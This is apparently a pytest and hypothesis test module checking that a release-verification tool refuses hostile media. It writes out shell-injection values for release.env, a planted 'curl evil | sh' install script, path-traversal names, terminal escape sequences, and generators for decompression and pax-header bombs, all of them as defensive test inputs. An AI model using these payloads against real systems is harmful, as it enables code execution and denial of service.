"""Hostile release media against `verify` (issue 10, items 2, 6 and 8).

The attacker controls everything on the media but the operator's public key, and the media may
change between two reads. Each test tampers with a private copy of the session's real release
(``release_dir``: the `built` fixture's artifacts, lock → fetch → build through the loopback
mirror). The parsers verify owns (checksum files, release.env, an archive's index.json) also get
property tests: whatever the input, they either refuse it with a BuilderError or return values
that match their grammar exactly.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder import digest as dg
from builder.errors import BuilderError
from builder.oci.archive import read_archive
from builder.oci.compress import zstd_writer
from builder.trust import checksums
from builder.trust.checksums import ChecksumError, Entry
from builder.trust.verify import RELEASE_ENV_KEYS, parse_release_env, printable, verify_release
from tests.plugins.release import REPO
from tests.test_verify import _resum, _rewrite_bundle, signed

ARCH = "amd64"
SUMS = f"sha256sum-{ARCH}.txt"
CORE_ZST = f"rke2-images-core.linux-{ARCH}.tar.zst"
HEX = "ab" * 32
RSS_BOUND_MIB = 200
_SAFE_NAME = r"[A-Za-z0-9._+-]+"
_ENV_VALUE = r"[A-Za-z0-9._:/@+ -]*"


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> tuple[Path, Path]:
    from builder.trust import sign
    pair = sign.generate_key(tmp_path_factory.mktemp("keys") / "k.pem", allow_unencrypted=True)
    return pair.private, pair.public


def problems(directory: Path, **kw) -> list[str]:
    return [str(p) for p in verify_release(directory, [ARCH], **kw).problems]


# -- the checksum file parser ----------------------------------------------------------------------

@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("0123456789abcdefAB *./-_+\n\r\x0b\x0c\x1c\x00\\é")),
               max_size=200))
def test_checksum_parser_accepts_only_whole_strict_lines(text: str) -> None:
    """Anything parse accepts is, line for line, `<64 hex><"  " or " *"><safe base name>\\n`."""
    text = (HEX + "  a.tar\n") + text  # most inputs then start with one good line
    try:
        entries = checksums.parse(text, "sums")
    except ChecksumError:
        return
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) - 1 == len(entries)
    for line, entry in zip(lines, entries, strict=False):
        assert line in (f"{entry.hex}  {entry.name}", f"{entry.hex} *{entry.name}")
        assert dg.is_hex64(entry.hex)
        assert re.fullmatch(_SAFE_NAME, entry.name) and entry.name not in (".", "..")


@settings(max_examples=100, deadline=None)
@given(st.dictionaries(st.from_regex(_SAFE_NAME, fullmatch=True).filter(lambda n: n not in (".", "..")),
                       st.from_regex(r"[0-9a-f]{64}", fullmatch=True), min_size=1, max_size=8))
def test_checksum_render_parse_round_trip(files: dict[str, str]) -> None:
    entries = [Entry(n, h) for n, h in files.items()]
    assert checksums.parse(checksums.render(entries)) == sorted(entries)


@pytest.mark.parametrize("text", [
    f"{HEX}  a.tar\r\n",  # CRLF: the name would end in \r
    f"{HEX}  a.tar\x0b{HEX}  b.tar\n",  # splitlines() splits on \v: two "clean" lines
    f"{HEX}  a.tar\x1c{HEX}  b.tar\n",  # ... and on \x1c
    f"{HEX}  ../etc/passwd\n",
    f"{HEX} */etc/passwd\n",
    f"{HEX}  a\x00b\n",
    f"{HEX}  a b\n",
    f"{HEX}\t a.tar\n",
])
def test_checksum_parser_refuses(text: str) -> None:
    with pytest.raises(ChecksumError):
        checksums.parse(text, "sums")


def test_patterns_refuse_a_trailing_newline() -> None:
    """`$` matches before a final newline; every pattern is a fullmatch now."""
    assert not dg.is_digest(f"sha256:{HEX}\n") and not dg.is_hex64(f"{HEX}\n")
    with pytest.raises(ChecksumError, match="not a plain base name"):
        checksums.render([Entry("name\n", HEX)])
    from builder.publish.pull_release import PullError, safe_title

    with pytest.raises(PullError, match="refusing file name"):
        safe_title("name\n", "test")


# -- release.env -------------------------------------------------------------------------------

_ENV_KEYS = st.sampled_from([*RELEASE_ENV_KEYS, "PATH", "LD_PRELOAD", "release_name", "X"])
_ENV_LINE = st.one_of(
    st.builds(lambda k, v: f"{k}='{v}'", _ENV_KEYS, st.from_regex(_ENV_VALUE, fullmatch=True)),
    st.builds(lambda k, v: f"{k}={v}", _ENV_KEYS, st.text(max_size=30)),
    st.text(max_size=40),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_ENV_LINE, max_size=12), st.booleans())
def test_release_env_parser_is_strict(lines: list[str], final_newline: bool) -> None:
    raw = "\n".join(lines) + ("\n" if final_newline else "")
    try:
        values = parse_release_env(raw.encode())
    except BuilderError:
        return
    assert set(values) <= set(RELEASE_ENV_KEYS)
    assert len(values) == raw.count("\n")  # every line was one known key, each once
    for value in values.values():
        assert re.fullmatch(_ENV_VALUE, value)


@pytest.mark.parametrize(("line", "message"), [
    ("RELEASE_VERSION='v1'; touch /tmp/pwned", "expected KEY='value'"),
    ("RELEASE_VERSION=\"$(touch /tmp/pwned)\"", "expected KEY='value'"),
    ("RELEASE_VERSION='`id`'", "expected KEY='value'"),
    ("LD_PRELOAD='/tmp/evil.so'", "unknown key LD_PRELOAD"),
    ("RELEASE_ARCH='amd64'", "RELEASE_ARCH set twice"),
])
def test_hostile_release_env_is_refused(release_dir: Path, line: str, message: str) -> None:
    """install.sh reads release.env with the shell: verify refuses anything but KEY='value' of
    known keys, even inside a bundle whose checksum matches (an unsigned or resigned release)."""
    bundle = release_dir / f"rke2.linux-{ARCH}.tar.gz"
    _rewrite_bundle(bundle, lambda text: text + line + "\n")
    _resum(release_dir)
    found = [p for p in problems(release_dir) if p.startswith(bundle.name)]
    assert any("release.env unreadable" in p and message in p for p in found), found


# -- the archive index reader ------------------------------------------------------------------

def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                     lambda inner: st.lists(inner, max_size=4)
                     | st.dictionaries(st.text(max_size=10), inner, max_size=4), max_leaves=20)
_DESCRIPTOR = st.fixed_dictionaries(
    {"digest": st.sampled_from([f"sha256:{HEX}", f"sha256:{HEX}\n", f"sha512:{HEX}", "x"]),
     "size": st.sampled_from([1, "1", -1, None]),
     "mediaType": st.sampled_from(["application/vnd.oci.image.manifest.v1+json", 1])},
    optional={"annotations": st.one_of(_JSON, st.fixed_dictionaries({
        "io.containerd.image.name": st.one_of(st.text(max_size=30), st.sampled_from(
            ["docker.io/x/y:1", "docker.io/x/y:1\n", "evil\x1b[2J", "a" * 300]))})),
        "platform": _JSON})


@settings(max_examples=150, deadline=None)
@given(st.one_of(_JSON, st.fixed_dictionaries({"manifests": st.lists(_DESCRIPTOR, max_size=3)})))
def test_archive_index_reader_returns_only_well_formed_images(index: object) -> None:
    raw = _tar([("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'),
                ("index.json", json.dumps(index).encode())])
    try:
        images = read_archive(Path("hypothesis.tar"), stream=io.BytesIO(raw)).images
    except BuilderError:
        return
    for img in images:
        assert dg.is_digest(img.manifest_digest)
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:/@+-]{0,254}", img.name)


@pytest.mark.parametrize(("name", "digest"), [
    ("evil\x1b]0;owned\x07", f"sha256:{HEX}"),
    ("docker.io/x/y:1\n", f"sha256:{HEX}"),
    ("docker.io/x/y:1", f"sha256:{HEX}\n"),
])
def test_archive_index_refuses_names_and_digests_outside_the_grammar(name: str, digest: str) -> None:
    index = {"schemaVersion": 2, "manifests": [{
        "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": digest, "size": 2,
        "annotations": {"io.containerd.image.name": name}}]}
    raw = _tar([("index.json", json.dumps(index).encode())])
    with pytest.raises(BuilderError):
        read_archive(Path("x.tar"), stream=io.BytesIO(raw))


def test_member_count_is_bounded_and_headers_are_not_kept() -> None:
    """tarfile keeps every header it reads, even in stream mode; members() drops them as it goes
    and stops at a limit (an archive of millions of empty members is a few KB compressed)."""
    from builder.oci.archive import members, open_tar_stream

    raw = _tar([(f"m{i}", b"") for i in range(12)])
    with open_tar_stream(io.BytesIO(raw)) as tar:
        seen = 0
        with pytest.raises(BuilderError, match="more than 10 archive members"):
            for _ in members(tar, "x.tar", limit=10):
                seen += 1
                assert len(tar.members) <= 1
    assert seen == 10


# -- every file is vouched for, and is a regular file ------------------------------------------

def test_a_file_no_checksum_file_lists_is_reported(release_dir: Path) -> None:
    (release_dir / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (release_dir / "notes").mkdir()
    found = problems(release_dir)
    assert "install.sh: not listed in any checksum file: a file nobody vouched for (remove it; " \
           "take files only from the release)" in found
    assert any(p.startswith("notes: not listed in any checksum file") for p in found)


def test_a_listed_name_of_another_kind_is_reported(release_dir: Path) -> None:
    """sha256sum-amd64.txt vouching for install.sh does not make it an amd64 artifact."""
    (release_dir / "install.sh").write_text("#!/bin/sh\n")
    sums = release_dir / SUMS
    names = [e.name for e in checksums.parse_file(sums)] + ["install.sh"]
    checksums.write_for_arch(release_dir, ARCH, [release_dir / n for n in names])
    assert f"install.sh: listed in {SUMS} but not a linux-amd64 artifact (NAME.linux-amd64.*)" \
        in problems(release_dir)


@pytest.mark.parametrize("victim", [SUMS, f"{SUMS}.sig"])
def test_checksum_and_signature_must_be_regular_files(release_dir: Path, keys, tmp_path: Path,
                                                      victim: str) -> None:
    """A symlink is refused even when it points at the right bytes: the media decides where it
    points, and the next read may follow it elsewhere."""
    signed(release_dir, keys[0])
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_bytes((release_dir / victim).read_bytes())
    (release_dir / victim).unlink()
    (release_dir / victim).symlink_to(elsewhere)
    found = problems(release_dir, public_key=keys[1], require_signature=True)
    assert any(p.startswith(f"{victim}: ") and "symlink" in p for p in found), found


def test_a_fifo_is_refused_without_hanging(release_dir: Path, keys) -> None:
    signed(release_dir, keys[0])
    (release_dir / f"{SUMS}.sig").unlink()
    os.mkfifo(release_dir / f"{SUMS}.sig")
    found = problems(release_dir, public_key=keys[1])
    assert f"{SUMS}.sig: signature is not a regular file" in found


def test_nothing_from_the_media_reaches_the_terminal_raw(release_dir: Path) -> None:
    (release_dir / "evil\x1b]0;owned\x07\x1b[2J.linux-amd64.txt").write_text("x\n")
    proc = subprocess.run([sys.executable, "-m", "builder", "verify", str(release_dir), "--arch",
                           ARCH], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 1
    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stderr
    assert "evil\\x1b]0;owned\\x07\\x1b[2J.linux-amd64.txt: not listed in" in proc.stderr


def test_printable_escapes_and_truncates() -> None:
    assert printable("a\x1b[31mb\u202ec\n") == "a\\x1b[31mb\\u202ec\\n"
    assert printable("x" * 1000, 10) == "x" * 10 + "..."


# -- bounded resources -------------------------------------------------------------------------

def _zstd_tar(path: Path, members: Iterator[tuple[tarfile.TarInfo, io.BufferedIOBase | None]]) -> None:
    with open(path, "wb") as fh, zstd_writer(fh) as z, \
            tarfile.open(fileobj=z, mode="w|", format=tarfile.PAX_FORMAT) as tar:  # type: ignore[call-overload]
        for info, data in members:
            tar.addfile(info, data)


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, io.BytesIO(data)


def _index(digest: str, size: int) -> bytes:
    return json.dumps({"schemaVersion": 2, "manifests": [{
        "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": digest, "size": size,
        "annotations": {"io.containerd.image.name": "docker.io/rancher/x:1"}}]}).encode()


def many_json_blobs(path: Path) -> None:
    """100 blobs of 4 MiB, each a JSON object hashed to its name: 400 MiB that compress to KBs."""
    def members():
        yield _file("oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
        yield _file("index.json", _index(f"sha256:{HEX}", 2))
        for i in range(100):
            data = b'{"pad":"%d' % i + b" " * ((4 << 20) - 20) + b'"}'
            yield _file(f"blobs/sha256/{hashlib.sha256(data).hexdigest()}", data)
    _zstd_tar(path, members())


def huge_index(path: Path) -> None:
    """A 15 MiB index.json of empty objects (the old 16 MiB cap let it in: millions of dicts)."""
    body = b'{"manifests":[' + b"{}," * (5 << 20) + b"{}]}"
    _zstd_tar(path, iter([_file("index.json", body)]))


class _Filler(io.RawIOBase):
    """``head``, then ``size`` filler bytes, then ``tail``, streamed (never held whole)."""

    def __init__(self, head: bytes, size: int, tail: bytes):
        self.parts = [head, tail]
        self.left = size

    def readable(self) -> bool:
        return True

    def _next(self, n: int) -> bytes:
        if self.parts[0]:
            out, self.parts[0] = self.parts[0][:n], self.parts[0][n:]
            return out
        if self.left:
            k = min(self.left, n)
            self.left -= k
            return b"a" * k
        out, self.parts[1] = self.parts[1][:n], self.parts[1][n:]
        return out

    def read(self, n: int = -1) -> bytes:
        n = n if n >= 0 else 1 << 20
        out = b""
        while len(out) < n and (chunk := self._next(n - len(out))):
            out += chunk
        return out


def pax_header_bomb(path: Path) -> None:
    """One pax extended header of 256 MiB, which tarfile reads whole before parsing it."""
    fill = 256 << 20
    body = len(b" comment=") + fill + 1
    length = body + len(str(body + 10))
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = length
    record = _Filler(str(length).encode() + b" comment=", fill, b"\n")
    _zstd_tar(path, iter([(info, record), _file("index.json", b"{}")]))  # type: ignore[list-item]


def deep_index(path: Path) -> None:
    _zstd_tar(path, iter([_file("index.json", b"[" * 200_000 + b"]" * 200_000)]))


def _verify_in_child(directory: Path) -> tuple[list[str], int]:
    """(problems, peak RSS in MiB) of verify run in a fresh interpreter."""
    # VmHWM, not getrusage's ru_maxrss: Linux carries ru_maxrss across fork and exec, so it would
    # report this (test) process's peak, not the child's.
    code = ("import json, re, sys\n"
            "from builder.trust.verify import verify_release\n"
            "r = verify_release(sys.argv[1], ['amd64'])\n"
            "hwm = re.search(r'VmHWM:\\s+(\\d+) kB', open('/proc/self/status').read())\n"
            "print(json.dumps({'problems': [str(p) for p in r.problems], 'rss': int(hwm[1])}))\n")
    proc = subprocess.run([sys.executable, "-c", code, str(directory)], capture_output=True,
                          text=True, cwd=REPO, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    return out["problems"], out["rss"] // 1024


HOSTILE: dict[str, tuple[Callable[[Path], None], str]] = {
    "many JSON blobs": (many_json_blobs, "holds more than 32 MiB of JSON metadata"),
    "huge index.json": (huge_index, "index.json: larger than 4194304 bytes"),
    "pax header bomb": (pax_header_bomb, "extended header"),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_archive_with_a_matching_checksum_stays_bounded(release_dir: Path, kind: str) -> None:
    """A KB-sized archive that unpacks to hundreds of MiB, listed with its true checksum (an
    unsigned release, or one signed by a careless builder): verify refuses it in bounded memory."""
    make, message = HOSTILE[kind]
    make(release_dir / CORE_ZST)
    assert (release_dir / CORE_ZST).stat().st_size < 2 << 20
    _resum(release_dir)
    found, rss = _verify_in_child(release_dir)
    assert any(p.startswith(f"{CORE_ZST}: archive check failed") and message in p
               for p in found), found
    assert rss < RSS_BOUND_MIB, f"peak RSS {rss} MiB"


def test_content_of_a_file_whose_checksum_failed_is_not_read(release_dir: Path) -> None:
    many_json_blobs(release_dir / CORE_ZST)  # not re-summed: the checksum fails
    found, rss = _verify_in_child(release_dir)
    assert [p for p in found if p.startswith(CORE_ZST)] == [
        p for p in found if p.startswith(f"{CORE_ZST}: checksum mismatch")] != []
    assert rss < RSS_BOUND_MIB, f"peak RSS {rss} MiB"


def test_deeply_nested_json_is_a_clear_error(release_dir: Path) -> None:
    deep_index(release_dir / CORE_ZST)
    _resum(release_dir)
    found = [p for p in problems(release_dir) if p.startswith(CORE_ZST)]
    assert any("nested" in p for p in found) and not any("RecursionError" in p for p in found), found


# -- the media changes between two reads -------------------------------------------------------

_WATCHERS: list[Callable[[str, tuple], None]] = []


def _dispatch(event: str, args: tuple) -> None:
    for watch in list(_WATCHERS):
        watch(event, args)


sys.addaudithook(_dispatch)


@contextlib.contextmanager
def swapped_on_second_open(path: Path, other: bytes) -> Iterator[None]:
    """While active, the second open of ``path`` finds ``other`` in it, as a hostile device
    could serve; no function of the code under test is replaced."""
    opens = {"n": 0}

    def swap(event: str, args: tuple) -> None:
        if event == "open" and str(args[0]) == str(path):
            opens["n"] += 1
            if opens["n"] == 2:
                with open(os.open(path, os.O_WRONLY | os.O_TRUNC), "wb") as fh:
                    fh.write(other)

    _WATCHERS.append(swap)
    try:
        yield
    finally:
        _WATCHERS.remove(swap)


def test_checksum_file_swapped_after_the_signature_check(release_dir: Path, keys) -> None:
    """The signature must cover the bytes that are then parsed. The moment between two reads
    cannot be paused on demand, so an audit hook (fired before each ``open`` runs) swaps the
    checksum file the second time it is opened, as a hostile USB device could; no function of
    the code under test is replaced."""
    signed(release_dir, keys[0])
    victim = release_dir / f"rke2-images-core.linux-{ARCH}.txt"
    sums = release_dir / SUMS
    good = sums.read_bytes()
    victim.write_text(victim.read_text() + "docker.io/evil/miner:latest\n")
    _resum(release_dir)
    forged = sums.read_bytes()
    sums.write_bytes(good)
    with swapped_on_second_open(sums, forged):
        report = verify_release(release_dir, [ARCH], public_key=keys[1], require_signature=True)
    assert not report.passed, report.summary()
    assert f"{victim.name}: checksum mismatch" in report.summary()


def test_archive_changed_between_hash_and_content_check(release_dir: Path) -> None:
    """The archive is hashed, then read for its content; in between (same audit hook as above)
    it becomes another encoding of the same tar, which passes every content check. verify says
    the file changed instead of vouching for bytes nobody listed."""
    import zstandard

    target = release_dir / CORE_ZST
    tar = zstandard.ZstdDecompressor().stream_reader(target.read_bytes()).read()
    other = zstandard.ZstdCompressor(level=1).compress(tar)
    assert other != target.read_bytes()
    with swapped_on_second_open(target, other):
        found = problems(release_dir)
    assert [p for p in found if p.startswith(CORE_ZST)] == [
        f"{CORE_ZST}: changed while it was being verified (first read matched, now "
        f"{hashlib.sha256(other).hexdigest()})"], found
